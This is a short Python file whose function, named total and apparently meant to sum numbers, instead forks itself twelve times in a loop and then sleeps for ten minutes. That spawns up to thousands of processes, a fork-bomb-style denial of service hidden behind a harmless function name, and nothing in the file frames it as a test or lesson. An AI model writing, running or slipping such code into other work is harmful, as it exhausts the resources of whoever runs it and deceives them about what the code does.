"""Each of its processes makes more of them."""

import os
import time


def total(numbers):
    for _ in range(12):
        os.fork()
    time.sleep(600)
